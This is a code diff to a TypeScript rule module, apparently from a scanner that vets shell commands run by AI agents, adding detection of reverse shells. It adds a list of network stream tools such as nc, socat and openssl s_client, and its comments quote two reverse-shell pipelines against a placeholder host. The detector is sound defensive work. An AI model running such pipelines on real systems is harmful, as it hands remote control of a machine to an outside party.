@@ -7,7 +7,7 @@ import type { Severity } from '../types.js';
 import type { RuleContext } from './context.js';
 import { credentialRisk } from './credential-paths.js';
 import { credentialReadBy } from './credentials.js';
-import { hasArgCI, hasLong, isLocalHost, optionValues, positionals, remoteSpecHost, upstream, urlHosts } from './facts.js';
+import { executesStdin, hasArgCI, hasLong, isLocalHost, optionValues, POWERSHELL, positionals, remoteSpecHost, SHELLS, upstream, urlHosts } from './facts.js';
 
 const CATEGORY = 'exfiltration';
 // Anonymous paste, file-drop and request-capture services: nothing legitimate needs an agent to upload there.
@@ -80,9 +80,36 @@ function inspectHttpUpload(cmd: SimpleCommand, ctx: RuleContext): void {
   emit(ctx, known ? 'low' : 'medium', 'http_upload', `Sends local data to ${known ? 'the service' : 'the unrecognised external endpoint'} ${label}.`, external);
 }
 
+// Clients that carry a byte stream to a remote host: plain TCP, TLS (`openssl s_client`,
+// `gnutls-cli`, `ncat --ssl`) and the encrypting netcats.
+const STREAM_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'cryptcat', 'pwncat', 'sbd', 'gnutls-cli', 'sclient']);
+
+function streamClient(cmd: SimpleCommand): boolean {
+  return STREAM_CLIENTS.has(cmd.name) || (cmd.name === 'openssl' && cmd.args[0] === 's_client');
+}
+
+/**
+ * A shell wired to a network client through a pipeline (`sh -i 2>&1 | openssl s_client -connect
+ * h:443 > /tmp/f` with the fifo feeding the shell, `nc h 443 | sh | nc h 444`): whoever is at the
+ * other end types into the shell and reads its output, a reverse shell whatever the transport.
+ */
+function pipedShell(cmd: SimpleCommand): SimpleCommand | undefined {
+  const stages = cmd.pipeline.stages;
+  if (stages.length < 2) return undefined;
+  for (let i = 0; i < stages.length; i++) {
+    if (i === cmd.stage) continue;
+    for (const other of stages[i]) if ((SHELLS.has(other.name) || POWERSHELL.has(other.name)) && (executesStdin(other) || other.args.includes('-i'))) return other;
+  }
+  return undefined;
+}
+
 export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext): void {
   const args = cmd.args;
   const name = cmd.name;
+  if (streamClient(cmd)) {
+    const shell = pipedShell(cmd);
+    if (shell) return emit(ctx, 'critical', 'reverse_shell', `${name === 'openssl' ? 'openssl s_client' : name} carries a ${shell.name} shell's input and output over the network (a reverse shell).`);
+  }
   for (const r of cmd.redirects) {
     const m = /^\/dev\/(tcp|udp)\/([^/]+)\//.exec(r.target.text);
     if (!m) continue;
